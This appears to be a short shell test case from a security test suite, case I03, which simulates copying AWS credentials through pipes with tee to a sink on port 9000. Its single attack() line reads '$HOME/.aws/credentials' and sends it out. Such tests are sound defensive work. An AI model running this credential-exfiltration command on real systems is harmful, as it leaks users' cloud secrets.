# SPDX-License-Identifier: Apache-2.0
TITLE="tee between pipes, read by a sender that was forked before"
ROW="I03"
attack() { "$PROVOKE/pipes" tee "$HOME/.aws/credentials" "$SINK4" 9000; }
